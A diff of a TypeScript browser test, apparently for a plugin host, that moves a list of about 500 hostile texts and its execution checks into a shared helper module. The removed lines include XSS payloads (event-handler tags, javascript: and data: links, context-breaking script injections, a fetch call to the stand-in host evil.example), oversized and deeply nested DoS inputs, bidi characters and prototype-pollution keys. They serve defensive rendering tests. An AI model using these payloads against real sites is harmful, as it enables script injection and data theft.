@@ -4,103 +4,9 @@ import type { Tool } from '../../../../host/api/tool.ts';
 import { findHidden } from '../../../../host/core/foreign/hidden-characters.ts';
 import { echoTool, memorySource } from '../../../kit/source.ts';
 import { launchBrowser, noBrowser, openTab } from '../../../kit/web/chromium.ts';
+import { expectOnlyTexts, hostileTexts as texts, watchForExecution } from '../../../kit/web/hostile-texts.ts';
 import { sayingPlugin } from '../../../kit/web/saying-plugin.ts';
 import { servePage } from '../../../kit/web/served-page.ts';
-
-const act = 'globalThis.executed=1;fetch("https://evil.example/")';
-const elements = [
-  'img src=x',
-  'svg',
-  'body',
-  'video src=x',
-  'audio src=x',
-  'input autofocus',
-  'details open',
-  'iframe',
-  'object data=x',
-  'marquee',
-];
-const events = [
-  'onerror',
-  'onload',
-  'onfocus',
-  'ontoggle',
-  'onstart',
-  'onmouseover',
-  'onanimationstart',
-  'onbegin',
-];
-const schemes = [
-  'javascript:',
-  'JaVaScRiPt:',
-  ' javascript:',
-  'java\tscript:',
-  'data:text/html,',
-  'vbscript:',
-  '//evil.example/',
-  'file:///',
-  'blob:',
-  '\u0001javascript:',
-];
-
-/** What would run, load something, break the layout or take long if a text were more than a text. */
-const texts: readonly string[] = [
-  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}='${act}'>`)),
-  ...schemes.flatMap((scheme) => [
-    `[a](${scheme}${act})`,
-    `![a](${scheme}${act})`,
-    `<${scheme}${act}>`,
-    `[a]: ${scheme}${act}\n\n[a]`,
-    `<a href="${scheme}${act}">a</a>`,
-    `<form action="${scheme}${act}"><button>a</button></form>`,
-  ]),
-  ...[
-    '"',
-    "'",
-    '`',
-    '</script>',
-    '-->',
-    ']]>',
-    '</style>',
-    '</title>',
-    '</textarea>',
-    '${',
-    '{{',
-    '</pre>',
-    '&lt;',
-  ].flatMap((end) => [
-    `${end}<script>${act}</script>`,
-    `${end} onload=${act} x=`,
-    `${end}<style>@import "https://evil.example/";</style>`,
-  ]),
-  ...[
-    'link rel=stylesheet href',
-    'link rel=prefetch href',
-    'base href',
-    'img src',
-    'iframe src',
-    'embed src',
-    'meta http-equiv=refresh content="0;url',
-    'source src',
-    'track src',
-    'image href',
-    'use href',
-  ].map((loading) => `<${loading}="https://evil.example/x">`),
-  '![](https://evil.example/pixel.png)',
-  '# \u202Eesrever\u202C \u200B\u2066',
-  'a\u0301\u0302\u0303'.repeat(3_000),
-  '\u{E0041}\u{E0042}'.repeat(500),
-  `${'> '.repeat(400)}deep`,
-  `${'- '.repeat(300)}deep`,
-  `${'['.repeat(2_000)}x${']'.repeat(2_000)}`,
-  `${'*'.repeat(3_000)}x`,
-  `${'|a'.repeat(500)}|\n${'|-'.repeat(500)}|\n${'|b'.repeat(500)}|`,
-  'x'.repeat(50_000),
-  '\n'.repeat(5_000),
-  '\u0000\u0007\u001B[31mred\u001B]8;;https://evil.example\u0007',
-  '__proto__',
-  'constructor',
-];
 
 /** Where each of them is shown. */
 const places =
@@ -198,15 +104,7 @@ test('500 hostile texts, wherever a text of somebody else is shown, are texts', 
   await using browser = await launchBrowser();
   await using opened = await browser.newContext({ viewport: { width: 900, height: 700 } });
   const { tab, watched } = await openTab(opened, page.link());
-  await tab.evaluate(() => {
-    const seen = globalThis as unknown as { longest: number; reports: string[] };
-    seen.longest = 0;
-    seen.reports = [];
-    new PerformanceObserver((list) => {
-      for (const { duration } of list.getEntries()) seen.longest = Math.max(seen.longest, duration);
-    }).observe({ type: 'longtask' });
-    addEventListener('securitypolicyviolation', ({ blockedURI }) => seen.reports.push(blockedURI));
-  });
+  await watchForExecution(tab);
   const tools = [...page.host.registry.snapshot.tools.keys()].filter((id) => id.includes('hostile-'));
   expect(tools.length).toBe(texts.length);
   for (const id of tools) {
@@ -229,21 +127,6 @@ test('500 hostile texts, wherever a text of somebody else is shown, are texts', 
   }
   await lookAtScreensOfPlugins(tab);
   await lookAtSettings(tab);
-  const seen = await tab.evaluate(() => {
-    const { longest, reports, executed } = globalThis as unknown as {
-      readonly longest: number;
-      readonly reports: readonly string[];
-      readonly executed?: number;
-    };
-    return { longest, reports, executed };
-  });
-  console.log(`${shown} texts, the longest task took ${Math.round(seen.longest)} ms`);
-  expect(seen).toMatchObject({ reports: [], executed: undefined });
-  expect(watched).toEqual({ errors: [], outside: [] });
-  // No element that this page does not make itself.
-  expect(
-    await tab
-      .locator('script:not([src^="/"]), iframe, object, embed, form[action], base, style, meta[http-equiv]')
-      .count(),
-  ).toBe(0);
+  const longest = await expectOnlyTexts(tab, watched);
+  console.log(`${shown} texts, the longest task took ${Math.round(longest)} ms`);
 });
